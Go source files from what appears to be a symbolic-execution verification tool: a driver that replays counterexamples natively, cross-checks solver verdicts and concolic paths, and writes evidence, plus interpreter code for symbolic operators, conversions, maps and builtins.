	os.MkdirAll(outDir, 0o755)
	violations := 0
	knownHits := 0
	unreplayable := 0
	var violationLines []string
	replayedOK := 0
	doReplay := os.Getenv("VERIF_NO_REPLAY") == ""
	for gi, s := range order {
		g := groups[s]
		// known?
		var kf *KnownFinding
		for i := range known {
			k := &known[i]
			if k.Property != prop || k.Status != "known" {
				continue
			}
			if re, err := regexp.Compile(k.Pattern); err == nil && re.MatchString(s) {
				kf = k
				break
			}
		}
		// native replay
		reproduced := false
		replayNote := ""
		var usedCase replayCase
		if doReplay {
			for _, f := range g.fails {
				if len(f.Values) == 0 && len(f.Inputs) != 0 {
					continue
				}
				c := replayCase{Entry: g.entry.spec.Func, Values: f.Values, Choices: f.Choices, Params: g.entry.params}
				wd := filepath.Join(outRoot(), "out", "work", fmt.Sprintf("%s-%d", prop, gi))
				outs, raw, _ := nativeRun(nat, g.entry.spec.Pkg, []replayCase{c}, f.Kind == "race" || g.entry.spec.Race, wd, 120*time.Second)
				ok, note := judgeReplay(f, outs[0], raw)
				replayNote = note
				if ok {
					reproduced = true
					usedCase = c
					break
				}
				usedCase = c
			}
		} else {
			reproduced = true
			replayNote = "replay disabled"
			usedCase = replayCase{Entry: g.entry.spec.Func, Values: g.fails[0].Values, Choices: g.fails[0].Choices, Params: g.entry.params}
		}
		path := filepath.Join(outDir, fmt.Sprintf("%s-%d.json", prop, gi))
		rj, _ := json.MarshalIndent(map[string]interface{}{"property": prop, "signature": s, "case": usedCase, "package": g.entry.spec.Pkg, "detail": g.fails[0].Detail, "model": g.fails[0].Model, "reproduced_natively": reproduced, "replay_note": replayNote}, "", " ")
		os.WriteFile(path, rj, 0o644)
		switch {
		case !reproduced:
			unreplayable++
			fmt.Printf("INCONCLUSIVE unreplayable: property=%s %s (%s)\n", prop, s, replayNote)
		case kf != nil:
			knownHits++
			replayedOK++
			fmt.Printf("KNOWN-FINDING: property=%s %s [%s]\n", prop, kf.What, s)
		default:
			violations++
			replayedOK++
			violationLines = append(violationLines, fmt.Sprintf("VIOLATION property=%s replay=%s", prop, path))
			fmt.Printf("  violation: %s\n", s)
		}
	}

	// ---- concolic cross-check of a sample of completed paths
	// ---- cross-solver diff (thorough): a sample of completed paths is re-executed with another solver
	// (z3 4.8.12, one process per path) and must discharge the same assertions
	crossChecked, crossDisagree := 0, 0
	if tier == "thorough" && os.Getenv("VERIF_NO_CROSS") == "" {
		for _, r := range runs {
			fn := P.findFunc(pkgPath(r.spec.Pkg), r.spec.Func)
			for _, pth := range r.res.CrossPaths {
				if pth.TimerNondet {
					continue
				}
				alt := P.Explore(RunConfig{Entry: fn, Workers: 1, Solver: "z3", TimeoutMs: 20000, MaxSteps: 3000000, MaxPaths: 1, Params: r.params, OnlyPrefix: pth.Decisions})
				if alt.Paths != 1 || alt.NUnknown > 0 || len(alt.EngineErrors) > 0 {
					continue // the other solver gave no verdict: nothing to compare
				}
				crossChecked++
				if len(alt.Fails) != len(pth.Fails) {
					crossDisagree++
					fmt.Printf("SOLVER-DISAGREEMENT %s path %v: z3-new found %d failing assertion(s), z3 4.8.12 %d\n", r.spec.Func, pth.Decisions, len(pth.Fails), len(alt.Fails))
				}
			}
		}
		if crossDisagree > 0 {
			problems = append(problems, fmt.Sprintf("%d solver disagreement(s) between z3 5.1.0 and z3 4.8.12", crossDisagree))
		}
		fmt.Printf("[%s] cross-solver diff: %d sampled path(s) re-decided by z3 4.8.12, %d disagreement(s)\n", prop, crossChecked, crossDisagree)
		evCrossChecked = crossChecked
	}
	validated, mismatches := 0, 0
	if doReplay {
		rng := rand.New(rand.NewSource(seed))
		for _, r := range runs {
			if r.spec.NoConcolic {
				continue
			}
			cands := r.res.ObsPaths
			var pick []*PathResult
			for _, p := range cands {
				if p.WitnessNames != nil || len(p.Inputs) == 0 {
					pick = append(pick, p)
				}
			}
			rng.Shuffle(len(pick), func(i, j int) { pick[i], pick[j] = pick[j], pick[i] })
			n := 12
			if tier == "thorough" {
				n = 40
			}
			if len(pick) > n {
				pick = pick[:n]
			}
			if len(pick) == 0 {
				continue
			}
			var cases []replayCase
			for _, p := range pick {
				cases = append(cases, replayCase{Entry: r.spec.Func, Values: p.WitnessVals, Choices: p.Choices, Params: r.params})
			}
			wd := filepath.Join(outRoot(), "out", "work", fmt.Sprintf("%s-concolic-%s", prop, r.spec.Func))
			outs, raw, _ := nativeRun(nat, r.spec.Pkg, cases, false, wd, 300*time.Second)
			for i, p := range pick {
				want := expectedLines(p)
				got := observedLines(outs[i])
				if outs[i].Ended && equalLines(want, got) {
					validated++
				} else {
					mismatches++
					if mismatches <= 3 {
						fmt.Printf("CONCOLIC-MISMATCH %s case %d:\n  interpreter: %v\n  native:      %v\n", r.spec.Func, i, want, got)
						if !outs[i].Began {
							fmt.Println(tail(raw, 30))
						}
					}
				}
			}
		}
		if mismatches > 0 {
			problems = append(problems, fmt.Sprintf("%d concolic cross-check mismatch(es): interpreter or environment model disagrees with the real build", mismatches))
		}
	}

	// ---- evidence
	var evs []evRun
	for _, r := range runs {
		evs = append(evs, buildEvRun(prop, r.spec, r.params, r.res))
	}
	if os.Getenv("VERIF_ONLY") == "" {
		writeEvidenceFile(spec, tier, seed, evs, validated, violations, knownHits, unreplayable, problems, loadT, time.Since(t0))
	}

	for _, p := range problems {
		fmt.Println("PROBLEM:", p)
	}
	for _, l := range violationLines {
		fmt.Println(l)
	}
	if violations > 0 {
		exit = 1
	} else if len(problems) > 0 {
		exit = 2
	}
	fmt.Printf("[%s] tier=%s violations=%d known=%d unreplayable=%d validated=%d wall=%.1fs exit=%d\n", prop, tier, violations, knownHits, unreplayable, validated, time.Since(t0).Seconds(), exit)
	return exit
}

func tail(s string, n int) string {
	ls := strings.Split(s, "\n")
	if len(ls) > n {
		ls = ls[len(ls)-n:]
	}
	return strings.Join(ls, "\n")
}

func expectedLines(p *PathResult) []string {
	var out []string
	for _, o := range p.Observations {
		if strings.HasSuffix(o, "=?") {
			continue
		}
		out = append(out, "VOBS "+o)
	}
	for _, c := range p.Covers {
		out = append(out, "VCOVER "+c)
	}
	sort.Strings(out)
	return out
}

func observedLines(o replayOut) []string {
	var out []string
	for _, l := range o.Lines {
		if strings.HasPrefix(l, "VOBS ") || strings.HasPrefix(l, "VCOVER ") || strings.HasPrefix(l, "VASSERT-FAIL") || strings.HasPrefix(l, "VASSUME-FAIL") || l == "VEXHAUSTED" {
			out = append(out, l)
		}
	}
	sort.Strings(out)
	return out
}

func equalLines(a, b []string) bool {
	// observations with unknown value in the interpreter ("=?") were dropped from a; drop same tags from b
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// judgeReplay decides whether the native run reproduces the failure.
func judgeReplay(f *AssertFail, o replayOut, raw string) (bool, string) {
	for _, l := range o.Lines {
		if f.Kind == "assert" && l == "VASSERT-FAIL "+f.ID {
			// the assertion failed before any assumption did: inputs drawn after that point are not
			// constrained by the counterexample, later assumptions over them say nothing
			return true, "assertion fails natively"
		}
		if l == "VASSUME-FAIL" {
			return false, "an assumption does not hold natively"
		}
	}
	switch f.Kind {
	case "assert":
		for _, l := range o.Lines {
			if l == "VASSERT-FAIL "+f.ID {
				return true, "assertion fails natively"
			}
		}
		if !o.Ended && (strings.Contains(raw, "panic:") || strings.Contains(raw, "fatal error:")) {
			return false, "native run crashed before the assertion"
		}
		return false, "assertion holds natively"
	case "panic":
		if o.Began && !o.Ended && (strings.Contains(raw, "panic:") || strings.Contains(raw, "fatal error:")) {
			return true, "process crashes natively: " + firstPanicLine(raw)
		}
		return false, "no crash natively"
	case "stranded":
		for _, l := range o.Lines {
			if strings.HasPrefix(l, "VSTRANDED ") {
				return true, "goroutines left blocked natively: " + l
			}
		}
		return false, "no goroutine left natively"
	case "race":
		if strings.Contains(raw, "WARNING: DATA RACE") {
			return true, "race detector reports a data race"
		}
		return false, "race detector silent"
	}
	return false, "unknown failure kind"
}

func firstPanicLine(raw string) string {
	for _, l := range strings.Split(raw, "\n") {
		if strings.HasPrefix(l, "panic:") || strings.HasPrefix(l, "fatal error:") {
			return l
		}
	}
	return ""
}
