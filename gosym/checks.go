package main

func checkMain(args []string) int { return 2 }
