package main

// Operators, conversions, equality, maps, iterators and Go builtins over symbolic values.

import (
	"fmt"
	"go/token"
	"go/types"
	"math"
	"unicode/utf8"

	"golang.org/x/tools/go/ssa"
)

func (ex *Exec) toTerm(v Value, w int) *Term {
	switch v := v.(type) {
	case *Term:
		return v
	case uint64:
		return ex.ts.Const(v, w)
	case bool:
		return ex.ts.Bool(v)
	}
	panic(fmt.Sprintf("toTerm %T", v))
}

func (ex *Exec) boolTerm(v Value) *Term { return ex.toTerm(v, 0) }

// simplify a Term back to a concrete value when constant
func (ex *Exec) fromTerm(t *Term) Value {
	if t.IsConst() {
		if t.w == 0 {
			return t.val != 0
		}
		if t.w <= 64 {
			return t.val
		}
	}
	return t
}

func (ex *Exec) bAnd(a, b Value) Value {
	if x, ok := a.(bool); ok {
		if !x {
			return false
		}
		return b
	}
	if y, ok := b.(bool); ok {
		if !y {
			return false
		}
		return a
	}
	return ex.fromTerm(ex.ts.And(a.(*Term), b.(*Term)))
}

func (ex *Exec) bOr(a, b Value) Value {
	if x, ok := a.(bool); ok {
		if x {
			return true
		}
		return b
	}
	if y, ok := b.(bool); ok {
		if y {
			return true
		}
		return a
	}
	return ex.fromTerm(ex.ts.Or(a.(*Term), b.(*Term)))
}

func (ex *Exec) bNot(a Value) Value {
	if x, ok := a.(bool); ok {
		return !x
	}
	return ex.fromTerm(ex.ts.Not(a.(*Term)))
}

func (ex *Exec) binop(op token.Token, t types.Type, x, y Value) Value {
	return ex.binop2(op, t, t, x, y)
}

func (ex *Exec) binop2(op token.Token, t, yt types.Type, x, y Value) Value {
	switch op {
	case token.EQL:
		return ex.equals(t, x, y)
	case token.NEQ:
		return ex.bNot(ex.equals(t, x, y))
	}
	ut := t.Underlying()
	if b, ok := ut.(*types.Basic); ok {
		switch {
		case b.Info()&types.IsInteger != 0:
			return ex.intBinop(op, t, yt, x, y)
		case b.Info()&types.IsString != 0:
			return ex.strBinop(op, x, y)
		case b.Info()&types.IsFloat != 0:
			xf, yf := x.(float64), y.(float64)
			switch op {
			case token.ADD:
				return ex.roundF(t, xf+yf)
			case token.SUB:
				return ex.roundF(t, xf-yf)
			case token.MUL:
				return ex.roundF(t, xf*yf)
			case token.QUO:
				return ex.roundF(t, xf/yf)
			case token.LSS:
				return xf < yf
			case token.LEQ:
				return xf <= yf
			case token.GTR:
				return xf > yf
			case token.GEQ:
				return xf >= yf
			}
		case b.Info()&types.IsBoolean != 0:
			switch op {
			case token.AND, token.LAND:
				return ex.bAnd(x, y)
			case token.OR, token.LOR:
				return ex.bOr(x, y)
			}
		}
	}
	panic(fmt.Sprintf("binop %v on %v (%T,%T)", op, t, x, y))
}

func (ex *Exec) roundF(t types.Type, f float64) Value {
	if b, ok := t.Underlying().(*types.Basic); ok && b.Kind() == types.Float32 {
		return float64(float32(f))
	}
	return f
}

func (ex *Exec) intBinop(op token.Token, t, yt types.Type, x, y Value) Value {
	w, signed, _ := intWidth(t)
	xc, xok := x.(uint64)
	yc, yok := y.(uint64)
	isShift := op == token.SHL || op == token.SHR
	if isShift {
		yw, ysigned, _ := intWidth(yt)
		// negative shift count panics
		if ysigned {
			if yok {
				if sext64(yc, yw) < 0 {
					panic(targetPanic{ex.rtError("negative shift amount")})
				}
			} else {
				neg := ex.ts.Cmp(TSLt, y.(*Term), ex.ts.Const(0, yw))
				if ex.branch(neg) {
					panic(targetPanic{ex.rtError("negative shift amount")})
				}
			}
		}
		if xok && yok {
			var r uint64
			if op == token.SHL {
				if yc >= uint64(w) {
					r = 0
				} else {
					r = xc << yc
				}
			} else if signed {
				sx := sext64(xc, w)
				if yc >= uint64(w) {
					yc = uint64(w - 1)
				}
				r = uint64(sx >> yc)
			} else {
				if yc >= uint64(w) {
					r = 0
				} else {
					r = xc >> yc
				}
			}
			return r & mask(w)
		}
		xt := ex.toTerm(x, w)
		ytm := ex.toTerm(y, yw)
		// bring count to width w, saturating
		var cnt *Term
		if yw == w {
			cnt = ytm
		} else if yw < w {
			cnt = ex.ts.Zext(ytm, w-yw)
		} else {
			big := ex.ts.Cmp(TULe, ex.ts.Const(uint64(w), yw), ytm)
			cnt = ex.ts.Ite(big, ex.ts.Const(uint64(w), w), ex.ts.Extract(ytm, w-1, 0))
		}
		var top TOp
		switch {
		case op == token.SHL:
			top = TShl
		case signed:
			top = TAShr
		default:
			top = TLShr
		}
		return ex.fromTerm(ex.ts.Bin(top, xt, cnt))
	}
	if xok && yok {
		sx, sy := sext64(xc, w), sext64(yc, w)
		m := mask(w)
		switch op {
		case token.ADD:
			return (xc + yc) & m
		case token.SUB:
			return (xc - yc) & m
		case token.MUL:
			return (xc * yc) & m
		case token.QUO:
			if yc == 0 {
				panic(targetPanic{ex.rtError("integer divide by zero")})
			}
			if signed {
				if sy == -1 {
					return uint64(-sx) & m
				}
				return uint64(sx/sy) & m
			}
			return xc / yc
		case token.REM:
			if yc == 0 {
				panic(targetPanic{ex.rtError("integer divide by zero")})
			}
			if signed {
				if sy == -1 {
					return uint64(0)
				}
				return uint64(sx%sy) & m
			}
			return xc % yc
		case token.AND:
			return xc & yc
		case token.OR:
			return xc | yc
		case token.XOR:
			return xc ^ yc
		case token.AND_NOT:
			return xc &^ yc
		case token.LSS:
			if signed {
				return sx < sy
			}
			return xc < yc
		case token.LEQ:
			if signed {
				return sx <= sy
			}
			return xc <= yc
		case token.GTR:
			if signed {
				return sx > sy
			}
			return xc > yc
		case token.GEQ:
			if signed {
				return sx >= sy
			}
			return xc >= yc
		}
		panic(fmt.Sprintf("int binop %v", op))
	}
	a, b := ex.toTerm(x, w), ex.toTerm(y, w)
	ts := ex.ts
	switch op {
	case token.ADD:
		return ex.fromTerm(ts.Bin(TAdd, a, b))
	case token.SUB:
		return ex.fromTerm(ts.Bin(TSub, a, b))
	case token.MUL:
		return ex.fromTerm(ts.Bin(TMul, a, b))
	case token.QUO, token.REM:
		z := ts.Eq(b, ts.Const(0, w))
		if ex.branch(z) {
			panic(targetPanic{ex.rtError("integer divide by zero")})
		}
		var top TOp
		switch {
		case op == token.QUO && signed:
			top = TSDiv
		case op == token.QUO:
			top = TUDiv
		case signed:
			top = TSRem
		default:
			top = TURem
		}
		return ex.fromTerm(ts.Bin(top, a, b))
	case token.AND:
		return ex.fromTerm(ts.Bin(TBAnd, a, b))
	case token.OR:
		return ex.fromTerm(ts.Bin(TBOr, a, b))
	case token.XOR:
		return ex.fromTerm(ts.Bin(TBXor, a, b))
	case token.AND_NOT:
		return ex.fromTerm(ts.Bin(TBAnd, a, ts.Un(TBNot, b)))
	case token.LSS:
		if signed {
			return ex.fromTerm(ts.Cmp(TSLt, a, b))
		}
		return ex.fromTerm(ts.Cmp(TULt, a, b))
	case token.LEQ:
		if signed {
			return ex.fromTerm(ts.Cmp(TSLe, a, b))
		}
		return ex.fromTerm(ts.Cmp(TULe, a, b))
	case token.GTR:
		if signed {
			return ex.fromTerm(ts.Cmp(TSLt, b, a))
		}
		return ex.fromTerm(ts.Cmp(TULt, b, a))
	case token.GEQ:
		if signed {
			return ex.fromTerm(ts.Cmp(TSLe, b, a))
		}
		return ex.fromTerm(ts.Cmp(TULe, b, a))
	}
	panic(fmt.Sprintf("int binop %v", op))
}

func (ex *Exec) strBinop(op token.Token, x, y Value) Value {
	xs, xok := x.(string)
	ys, yok := y.(string)
	if xok && yok {
		switch op {
		case token.ADD:
			return xs + ys
		case token.LSS:
			return xs < ys
		case token.LEQ:
			return xs <= ys
		case token.GTR:
			return xs > ys
		case token.GEQ:
			return xs >= ys
		}
	}
	if op == token.ADD {
		if isOpaque(x) || isOpaque(y) {
			if r, ok := ex.tmplConcat(x, y); ok {
				return r
			}
			return opaqueStr
		}
		b := append(append([]Value{}, strBytes(x)...), strBytes(y)...)
		return mkStr(b)
	}
	// lexicographic comparison on symbolic bytes
	if isOpaque(x) || isOpaque(y) {
		panic(abortPath{"ordering of opaque strings"})
	}
	lt := ex.strLess(strBytes(x), strBytes(y))
	eq := ex.strEq(x, y)
	switch op {
	case token.LSS:
		return lt
	case token.LEQ:
		return ex.bOr(lt, eq)
	case token.GTR:
		return ex.bNot(ex.bOr(lt, eq))
	case token.GEQ:
		return ex.bNot(lt)
	}
	panic(fmt.Sprintf("string binop %v", op))
}

func (ex *Exec) strLess(a, b []Value) Value {
	// a < b  <=>  exists i: prefix equal && (i==len(a) < len(b) || a[i]<b[i])
	var res Value = false
	var prefEq Value = true
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	for i := 0; i < n; i++ {
		ai, bi := ex.toTerm(a[i], 8), ex.toTerm(b[i], 8)
		lt := ex.fromTerm(ex.ts.Cmp(TULt, ai, bi))
		res = ex.bOr(res, ex.bAnd(prefEq, lt))
		prefEq = ex.bAnd(prefEq, ex.fromTerm(ex.ts.Eq(ai, bi)))
	}
	if len(a) < len(b) {
		res = ex.bOr(res, prefEq)
	}
	return res
}

func (ex *Exec) strEq(x, y Value) Value {
	xs, xok := x.(string)
	ys, yok := y.(string)
	if xok && yok {
		return xs == ys
	}
	if isOpaque(x) || isOpaque(y) {
		if r, ok := ex.tmplEq(x, y); ok {
			return r
		}
		panic(abortPath{"comparison of opaque string"})
	}
	a, b := strBytes(x), strBytes(y)
	if len(a) != len(b) {
		return false
	}
	return ex.bytesEq(a, b)
}

// bytesEq compares two equally long byte sequences. Runs of bytes are compared as wide terms so that
// bytes that are slices of one wide value (keys, signatures) give one equation instead of many.
func (ex *Exec) bytesEq(a, b []Value) Value {
	if len(a) == 0 {
		return true
	}
	if len(a) > 8 {
		pa := make([]*Term, len(a))
		pb := make([]*Term, len(b))
		for i := range a {
			pa[i] = ex.toTerm(a[i], 8)
			pb[i] = ex.toTerm(b[i], 8)
		}
		ta, tb := ex.ts.Concat(pa...), ex.ts.Concat(pb...)
		// compare component-wise where both sides split at the same boundaries, else as a whole
		return ex.fromTerm(ex.ts.Eq(ta, tb))
	}
	var res Value = true
	for i := range a {
		ac, aok := a[i].(uint64)
		bc, bok := b[i].(uint64)
		if aok && bok {
			if ac != bc {
				return false
			}
			continue
		}
		res = ex.bAnd(res, ex.fromTerm(ex.ts.Eq(ex.toTerm(a[i], 8), ex.toTerm(b[i], 8))))
	}
	return res
}

// equals implements == for type t. Returns bool or *Term.
func (ex *Exec) equals(t types.Type, x, y Value) Value {
	switch ut := t.Underlying().(type) {
	case *types.Basic:
		switch {
		case ut.Kind() == types.UntypedNil:
			return true
		case ut.Info()&types.IsBoolean != 0:
			xb, xok := x.(bool)
			yb, yok := y.(bool)
			if xok && yok {
				return xb == yb
			}
			return ex.fromTerm(ex.ts.Eq(ex.boolTerm(x), ex.boolTerm(y)))
		case ut.Info()&types.IsInteger != 0:
			xc, xok := x.(uint64)
			yc, yok := y.(uint64)
			if xok && yok {
				return xc == yc
			}
			w, _, _ := intWidth(t)
			return ex.fromTerm(ex.ts.Eq(ex.toTerm(x, w), ex.toTerm(y, w)))
		case ut.Info()&types.IsString != 0:
			return ex.strEq(x, y)
		case ut.Info()&types.IsFloat != 0:
			return x.(float64) == y.(float64)
		case ut.Kind() == types.UnsafePointer:
			return ptrEqual(x.(*Pointer), y.(*Pointer))
		}
	case *types.Pointer:
		return ptrEqual(x.(*Pointer), y.(*Pointer))
	case *types.Chan:
		return x.(*ChanV) == y.(*ChanV)
	case *types.Map:
		xm, _ := x.(*MapV)
		ym, _ := y.(*MapV)
		return xm == ym
	case *types.Slice:
		// only comparable to nil
		xs, _ := x.(Slice)
		ys, _ := y.(Slice)
		return xs.base == nil && ys.base == nil
	case *types.Signature:
		_, xn := x.(FuncNil)
		_, yn := y.(FuncNil)
		return xn && yn
	case *types.Interface:
		xi, _ := x.(Iface)
		yi, _ := y.(Iface)
		if xi.T == nil || yi.T == nil {
			return xi.T == nil && yi.T == nil
		}
		if !types.Identical(xi.T, yi.T) {
			return false
		}
		if !types.Comparable(xi.T) {
			panic(targetPanic{ex.rtError("comparing uncomparable type " + typeString(xi.T))})
		}
		return ex.equals(xi.T, xi.V, yi.V)
	case *types.Struct:
		xs, ys := x.(StructV), y.(StructV)
		var res Value = true
		for i := range xs.f {
			if ut.Field(i).Name() == "_" {
				continue
			}
			res = ex.bAnd(res, ex.equals(ut.Field(i).Type(), xs.f[i], ys.f[i]))
			if b, ok := res.(bool); ok && !b {
				return false
			}
		}
		return res
	case *types.Array:
		xa, ya := x.(ArrayV), y.(ArrayV)
		var res Value = true
		for i := range xa.e {
			res = ex.bAnd(res, ex.equals(ut.Elem(), xa.e[i], ya.e[i]))
			if b, ok := res.(bool); ok && !b {
				return false
			}
		}
		return res
	}
	panic(fmt.Sprintf("equals on %v (%T, %T)", t, x, y))
}

// hashable checks the runtime hashability of an interface-typed map key (panics like the runtime).
func (ex *Exec) checkHashable(kt types.Type, k Value) {
	if isInterface(kt) {
		i := k.(Iface)
		if i.T != nil && !types.Comparable(i.T) {
			panic(targetPanic{ex.rtError("hash of unhashable type " + typeString(i.T))})
		}
		if i.T != nil {
			ex.checkHashable(i.T, i.V)
		}
		return
	}
	switch ut := kt.Underlying().(type) {
	case *types.Struct:
		s := k.(StructV)
		for i := range s.f {
			ex.checkHashable(ut.Field(i).Type(), s.f[i])
		}
	case *types.Array:
		a := k.(ArrayV)
		for i := range a.e {
			ex.checkHashable(ut.Elem(), a.e[i])
		}
	}
}

// ---------------------------------------------------------------- conversions

func (ex *Exec) conv(dst, src types.Type, x Value) Value {
	ud, us := dst.Underlying(), src.Underlying()
	// pointer / unsafe
	switch ud.(type) {
	case *types.Pointer:
		if _, ok := us.(*types.Pointer); ok {
			return x
		}
		panic(abortPath{"unsafe pointer conversion"})
	case *types.Slice:
		// string -> []byte / []rune
		if isStringType(us) {
			el := ud.(*types.Slice).Elem().Underlying().(*types.Basic)
			if el.Kind() == types.Uint8 {
				b := strBytes(x)
				s := ex.makeSlice(el, len(b), len(b))
				copy(s.elems(), b)
				return s
			}
			str, ok := x.(string)
			if !ok {
				panic(abortPath{"[]rune of symbolic string"})
			}
			rs := []rune(str)
			s := ex.makeSlice(el, len(rs), len(rs))
			for i, r := range rs {
				s.elems()[i] = uint64(uint32(r))
			}
			return s
		}
		return x
	}
	db, dok := ud.(*types.Basic)
	if !dok {
		return x
	}
	if db.Kind() == types.UnsafePointer {
		panic(abortPath{"unsafe pointer conversion"})
	}
	if db.Info()&types.IsString != 0 {
		switch us := us.(type) {
		case *types.Basic:
			if us.Info()&types.IsString != 0 {
				return x
			}
			if us.Info()&types.IsInteger != 0 {
				c, ok := x.(uint64)
				if !ok {
					panic(abortPath{"string(symbolic int)"})
				}
				w, signed, _ := intWidth(src)
				v := int64(c)
				if signed {
					v = sext64(c, w)
				}
				if v < 0 || v > utf8.MaxRune {
					return "�"
				}
				return string(rune(v))
			}
		case *types.Slice:
			s := x.(Slice)
			el := us.Elem().Underlying().(*types.Basic)
			if el.Kind() == types.Uint8 {
				if s.base == nil {
					return ""
				}
				return mkStr(s.elems()[s.off : s.off+s.len])
			}
			// []rune
			var rs []rune
			for i := 0; i < s.len; i++ {
				c, ok := s.at(i).(uint64)
				if !ok {
					panic(abortPath{"string([]rune symbolic)"})
				}
				rs = append(rs, rune(int32(c)))
			}
			return string(rs)
		}
	}
	if db.Info()&types.IsInteger != 0 {
		dw, _, _ := intWidth(dst)
		if sb, ok := us.(*types.Basic); ok {
			if sb.Info()&types.IsInteger != 0 {
				sw, ssigned, _ := intWidth(src)
				switch v := x.(type) {
				case uint64:
					if ssigned {
						return uint64(sext64(v, sw)) & mask(dw)
					}
					return v & mask(dw)
				case *Term:
					if dw == sw {
						return v
					}
					if dw < sw {
						return ex.fromTerm(ex.ts.Extract(v, dw-1, 0))
					}
					if ssigned {
						return ex.fromTerm(ex.ts.Sext(v, dw-sw))
					}
					return ex.fromTerm(ex.ts.Zext(v, dw-sw))
				}
			}
			if sb.Info()&types.IsFloat != 0 {
				f := x.(float64)
				_, dsigned, _ := intWidth(dst)
				if dsigned {
					return uint64(int64(f)) & mask(dw)
				}
				return uint64(f) & mask(dw)
			}
		}
	}
	if db.Info()&types.IsFloat != 0 {
		if sb, ok := us.(*types.Basic); ok {
			if sb.Info()&types.IsInteger != 0 {
				c, ok := x.(uint64)
				if !ok {
					panic(abortPath{"float(symbolic int)"})
				}
				sw, ssigned, _ := intWidth(src)
				if ssigned {
					return ex.roundF(dst, float64(sext64(c, sw)))
				}
				return ex.roundF(dst, float64(c))
			}
			if sb.Info()&types.IsFloat != 0 {
				return ex.roundF(dst, x.(float64))
			}
		}
	}
	if db.Info()&types.IsBoolean != 0 {
		return x
	}
	panic(fmt.Sprintf("conv %v -> %v (%T)", src, dst, x))
}

// ---------------------------------------------------------------- maps

func (ex *Exec) mapFind(m *MapV, k Value) *mapEntry {
	if m == nil {
		return nil
	}
	ex.checkHashable(m.kt, k)
	for _, e := range m.entries {
		eq := ex.equals(m.kt, e.k, k)
		if ex.branch(eq) {
			return e
		}
	}
	return nil
}

func (ex *Exec) mapUpdate(m *MapV, k, v Value) {
	if e := ex.mapFind(m, k); e != nil {
		e.v = copyVal(v)
		return
	}
	m.entries = append(m.entries, &mapEntry{k: copyVal(k), v: copyVal(v)})
}

func (ex *Exec) mapDelete(m *MapV, k Value) {
	if m == nil {
		return
	}
	e := ex.mapFind(m, k)
	if e == nil {
		return
	}
	for i, x := range m.entries {
		if x == e {
			m.entries = append(m.entries[:i:i], m.entries[i+1:]...)
			break
		}
	}
}

func (ex *Exec) lookup(instr *ssa.Lookup, x, idx Value) Value {
	switch x := x.(type) {
	case *MapV:
		ex.mapAccess(ex.cur, x, false, instr)
		var v Value
		ok := false
		if e := ex.mapFind(x, idx); e != nil {
			v = copyVal(e.v)
			ok = true
		} else {
			v = zero(instr.X.Type().Underlying().(*types.Map).Elem())
		}
		if instr.CommaOk {
			return Tuple{v, ok}
		}
		return v
	case string, *SymStr:
		b := strBytes(x)
		i := ex.index(idx, instr.Index.Type(), len(b))
		return b[i]
	}
	panic(fmt.Sprintf("lookup on %T", x))
}

// ---------------------------------------------------------------- iterators

type iterator interface {
	next(ex *Exec) Value
}

type mapIter struct {
	m       *MapV
	entries []*mapEntry
	i       int
}

func (it *mapIter) next(ex *Exec) Value {
	for it.i < len(it.entries) {
		e := it.entries[it.i]
		it.i++
		// skip deleted entries
		alive := false
		for _, x := range it.m.entries {
			if x == e {
				alive = true
				break
			}
		}
		if alive {
			return Tuple{true, copyVal(e.k), copyVal(e.v)}
		}
	}
	return Tuple{false, nil, nil}
}

type strIter struct {
	s string
	i int
}

func (it *strIter) next(ex *Exec) Value {
	if it.i >= len(it.s) {
		return Tuple{false, uint64(0), uint64(0)}
	}
	r, n := utf8.DecodeRuneInString(it.s[it.i:])
	idx := it.i
	it.i += n
	return Tuple{true, uint64(idx), uint64(uint32(r))}
}

func (ex *Exec) rangeIter(x Value, t types.Type) Value {
	switch x := x.(type) {
	case *MapV:
		it := &mapIter{m: x}
		if x != nil {
			it.entries = append(it.entries, x.entries...)
			if ex.P.permuteMaps && len(it.entries) > 1 && len(it.entries) <= 3 {
				it.entries = ex.permute(it.entries)
			}
		}
		return it
	case string:
		return &strIter{s: x}
	case *SymStr:
		// only ASCII-constrained symbolic strings could be ranged; treat bytes < 0x80 by assumption is unsound -> abort
		panic(abortPath{"range over symbolic string"})
	}
	panic(fmt.Sprintf("range over %T", x))
}

func (ex *Exec) permute(es []*mapEntry) []*mapEntry {
	n := len(es)
	out := make([]*mapEntry, 0, n)
	rest := append([]*mapEntry{}, es...)
	for len(rest) > 1 {
		k := ex.choose("maporder", len(rest))
		out = append(out, rest[k])
		rest = append(rest[:k:k], rest[k+1:]...)
	}
	return append(out, rest...)
}

// ---------------------------------------------------------------- builtins

func (ex *Exec) callBuiltin(th *Thread, caller *frame, fn *ssa.Builtin, args []Value) Value {
	switch fn.Name() {
	case "append":
		return ex.appendOp(th, fn, args)
	case "copy":
		dst := args[0].(Slice)
		var src []Value
		switch s := args[1].(type) {
		case Slice:
			if s.base != nil {
				src = s.elems()[s.off : s.off+s.len]
				ex.accessSlice(th, s, 0, s.len, false, nil)
			}
		default:
			src = strBytes(s)
		}
		n := len(src)
		if dst.len < n {
			n = dst.len
		}
		if n > 0 {
			ex.accessSlice(th, dst, 0, n, true, nil)
			tmp := make([]Value, n)
			for i := 0; i < n; i++ {
				tmp[i] = copyVal(src[i])
			}
			copy(dst.elems()[dst.off:dst.off+n], tmp)
		}
		return uint64(n)
	case "close":
		ex.chanClose(th, args[0].(*ChanV))
		return nil
	case "delete":
		m := args[0].(*MapV)
		if m != nil {
			ex.mapAccess(th, m, true, nil)
		}
		ex.mapDelete(m, args[1])
		return nil
	case "print", "println":
		return nil
	case "len":
		switch x := args[0].(type) {
		case string, *SymStr:
			if s, ok := x.(*SymStr); ok && s.tmpl != nil {
				// length of a template string: skeleton plus 1..20 digits per integer (over-approximation)
				lo := s.tmpl.minLen()
				hi := lo + 19*len(s.tmpl.ints)
				n := ex.newAux("tmpllen", 64)
				ex.addAxiom(ex.ts.And(ex.ts.Cmp(TULe, ex.ts.Const(uint64(lo), 64), n), ex.ts.Cmp(TULe, n, ex.ts.Const(uint64(hi), 64))))
				return n
			}
			return uint64(strLen(x))
		case Slice:
			return uint64(x.len)
		case ArrayV:
			return uint64(len(x.e))
		case *Pointer:
			return uint64(len(x.raw().(ArrayV).e))
		case *MapV:
			if x == nil {
				return uint64(0)
			}
			ex.mapAccess(th, x, false, nil)
			return uint64(len(x.entries))
		case *ChanV:
			if x == nil {
				return uint64(0)
			}
			return uint64(len(x.buf))
		}
	case "cap":
